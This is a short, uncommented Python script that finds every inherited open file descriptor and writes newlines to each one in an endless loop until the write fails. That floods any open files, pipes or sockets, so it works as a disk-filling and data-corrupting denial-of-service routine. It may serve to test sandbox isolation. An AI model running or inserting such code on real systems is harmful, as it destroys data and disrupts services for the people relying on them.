import os

def others():
    for fd in range(3, 512):
        try:
            os.fstat(fd)
        except OSError:
            continue
        yield fd

for fd in others():
    try:
        while True:
            os.write(fd, b'\n' * 65536)
    except OSError:
        pass
